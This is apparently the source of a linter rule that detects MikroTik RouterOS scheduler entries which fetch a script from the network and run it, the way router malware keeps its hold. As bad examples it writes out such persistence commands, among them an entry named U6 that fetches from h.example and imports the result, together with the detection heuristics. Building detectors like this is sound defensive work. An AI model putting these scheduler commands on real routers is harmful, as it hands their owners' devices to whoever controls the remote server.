import type { CommandUse, EmbeddedScript, ScriptModel } from '../../model/types';
import { defineRule, type Report } from '../rule';
import { fetchesOf, fileName, isLoopback, isNear, type Fetch } from '../support/fetch';
import { fetchedCode } from '../support/fetchedCode';
import { argumentNamed, isInert, itemsOf } from '../support/items';

const menu = '/system/scheduler';

export default defineRule({
  id: 'scheduler-persistence-pattern',
  category: 'security',
  severity: 'warning',
  risk: 'high',
  since: '0.1.0',
  recommended: true,
  summary: 'The scheduler runs what it fetches from the network',
  why: `This is how malware stays on routers: an entry of the scheduler fetches a script every few minutes, or at each start, and runs it. The Mēris botnet (2021) worked this way, and MikroTik's advice was to look for entries of the scheduler that one did not make. Microsoft's scanner for routers that served TrickBot (2022) looks for entries named \`u\` and a number.

If you did not write it, treat the router as taken over: save what you need by reading it, install RouterOS anew with Netinstall, and change all passwords. If it is yours, fetch with \`check-certificate=yes-without-crl\`, and check what arrived before it runs.`,
  references: ['CWE-494', 'CWE-506', 'https://manual.mikrotik.com/docs/system-information-and-utilities/scheduler'],
  supersedes: ['fetch-then-import'],
  fix: null,
  examples: [
    {
      bad: '/system scheduler add interval=10m name=U6 on-event="/tool fetch url=http://h.example/p mode=http dst-path=i.rsc;:delay 6s;/import i.rsc"',
      good: '/system scheduler add interval=1d name=backup on-event=backup-script policy=read,write,test',
    },
    {
      bad: '/system scheduler add name=start on-event={ /tool fetch url=https://example.com/x.rsc } start-time=startup',
      good: '/system scheduler add name=start on-event={ /import local.rsc } start-time=startup',
    },
    {
      bad: '/system scheduler add interval=1h name=sync on-event={ :local r [/tool fetch url=$u output=user as-value]; :execute ($r->"data") }',
      good: '/system scheduler add interval=1h name=sync on-event={ :local r [/tool fetch url=$u output=user as-value]; :log info ($r->"status") }',
    },
    {
      bad: '/system scheduler add interval=1d name=update on-event={ /tool fetch check-certificate=yes-without-crl url=https://example.com/x.rsc; /import x.rsc }',
      good: '/system scheduler add interval=1d name=update on-event={ /import x.rsc }',
    },
  ],
  silent: [
    {
      script:
        '/system scheduler add interval=5m name=ddns on-event="/tool fetch check-certificate=yes url=\\"https://example.com/update\\" output=none"',
      because: 'Dynamic DNS: nothing that is fetched is run',
    },
    {
      script: '/system scheduler add interval=1d name=u1 on-event=nightly',
      because: 'It runs a script of the router by its name',
    },
    {
      script: '/system script add name=update source={ /tool fetch url=http://h.example/x.rsc; /import x.rsc }',
      because: 'Nothing runs it by itself: the rule fetch-then-import reports it',
    },
    {
      script:
        '/system scheduler add interval=10m name=U6 on-event={ /tool fetch url=http://h.example/x.rsc; /import x.rsc }\n/system scheduler remove [find name=U6]',
      because: 'The script removes the entry again',
    },
    {
      script:
        '/system scheduler add interval=1d name=sync on-event={ /tool fetch url=http://127.0.0.1/x.rsc; /import x.rsc }',
      because: 'The router itself is the server',
    },
  ],
  menus: [menu],
  check({ script, report }) {
    for (const embedded of script.embedded) {
      const { command } = embedded;
      if (command.menu !== menu || embedded.argument.name !== 'on-event') continue;
      const found = isRemoved(script, command) ? undefined : judge(command, embedded);
      if (found === undefined) continue;
      const span = (argumentNamed(command, 'name') ?? embedded.argument).span;
      report({ span, ...found, ...(isOff(script, command) ? { severity: 'hint' as const } : {}) });
    }
  },
});

function judge(command: CommandUse, embedded: EmbeddedScript): Omit<Report, 'span'> | undefined {
  const { script, argument } = embedded;
  const codes = fetchedCode(script).filter(({ fetch }) => !isLoopback(fetch.host));
  if (codes.length > 0) {
    const safe = codes.every(({ fetch }) => isProven(fetch));
    // As fetch-then-import judges it: a server of one's own network, or one that proves who it is by other means, is less.
    const known = codes.every(({ fetch }) => isProven(fetch) || isKnown(fetch));
    return {
      ...(known ? { severity: 'information' as const } : {}),
      message: safe
        ? 'The scheduler runs what it fetches, unattended: whoever controls the server controls the router. If you did not make this entry, the router has been taken over.'
        : 'The scheduler fetches a script and runs it, and nothing proves where it came from: this is how malware stays on a router. If you did not make this entry, the router has been taken over.',
      related: [...new Set(codes.map(({ runs }) => runs))].map(({ span }) => ({
        span: embedded.toOuterSpan(span),
        message: 'It is run here',
      })),
    };
  }
  const [fetch] = fetchesOf(script);
  if (fetch === undefined) return undefined;
  const name = argumentNamed(command, 'name')?.value?.text ?? '';
  const suspect = /^u\d+$/i.test(name)
    ? 'carries a name that malware uses (U and a number), and fetches something'
    : isStartup(command) && fetchesOf(script).some(isScriptFile)
      ? 'fetches a script at every start'
      : undefined;
  if (suspect === undefined) return undefined;
  return {
    message: `This entry of the scheduler ${suspect}: if you did not make it, the router may have been taken over. Look at what it fetches.`,
    related: [{ span: argument.span, message: 'What it does' }],
  };
}

/** Does the server prove by a certificate who it is? */
function isProven({ verified, protocol }: Fetch): boolean {
  return verified === true && protocol !== 'http';
}

function isKnown({ protocol, host }: Fetch): boolean {
  return protocol === 'sftp' || (isNear(host) && protocol !== 'https');
}

/** Does the script take the entries away again that the command writes? */
function isRemoved(script: ScriptModel, command: CommandUse): boolean {
  const items = itemsOf(script.state(menu), command);
  return items.length > 0 && items.every(({ removed }) => removed);
}

/** Is the entry switched off: it runs nothing until somebody switches it on? */
function isOff(script: ScriptModel, command: CommandUse): boolean {
  const state = script.state(menu);
  const items = itemsOf(state, command);
  return items.length > 0 && items.every((item) => isInert(state, item));
}

function isStartup(command: CommandUse): boolean {
  return argumentNamed(command, 'start-time')?.value?.text === 'startup';
}

function isScriptFile({ file, verified }: Fetch): boolean {
  return file !== undefined && verified !== true && fileName(file).endsWith('.rsc');
}
